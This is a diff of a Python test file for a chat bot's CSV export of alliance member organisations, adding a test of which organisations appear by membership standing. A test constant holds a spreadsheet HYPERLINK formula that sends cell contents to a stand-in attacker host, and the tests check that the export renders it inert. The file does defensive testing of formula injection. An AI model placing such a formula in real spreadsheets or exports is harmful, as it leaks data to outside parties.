@@ -11,6 +11,7 @@ import pytest
 
 from bot.router import Router
 from handlers import build_registry
+from storage.models import OrganisationStatus
 from tests.alliance import member_organisation, message, person
 
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
@@ -80,6 +81,23 @@ async def test_the_deliverables_list_names_versions_and_contributors(router, all
         ("1", "pfas", "PFAS roadmap", "drafting", "2027-03-31", "2")
     ]
     assert rows[0]["contributors"] == "Jana Novak (ACME GmbH)"
+
+
+async def test_the_members_list_holds_member_organisations_unless_every_standing_is_asked_for(db, router, alliance):
+    await member_organisation(db, "Paused AG", status=OrganisationStatus.SUSPENDED)
+    await member_organisation(db, "Hopeful SRL", status=OrganisationStatus.APPLICANT)
+    await member_organisation(db, "Consult Ltd", status=OrganisationStatus.NON_MEMBER)
+
+    def standings(reply) -> dict[str, str]:
+        return {r["organisation"]: r["standing"] for r in csv.DictReader(io.StringIO(reply.file.content.decode()))}
+
+    listed = standings(await export(router, "/export members"))
+    assert listed == {"ACME GmbH": "member", "'" + HOSTILE: "member", "Paused AG": "suspended"}  # a formula made inert
+    everyone = standings(await export(router, "/export members standing=all"))
+    assert everyone["Hopeful SRL"] == "applicant" and everyone["Consult Ltd"] == "non-member" and len(everyone) == 5
+    assert standings(await export(router, "/export members standing=applicant")) == {"Hopeful SRL": "applicant"}
+    refused = await router.handle(message("/export attendance standing=all", sender="sam", room="secretariat"))
+    assert refused.text.startswith("standing= chooses which organisations /export members lists")
 
 
 async def test_only_the_secretariat_exports(router, alliance):
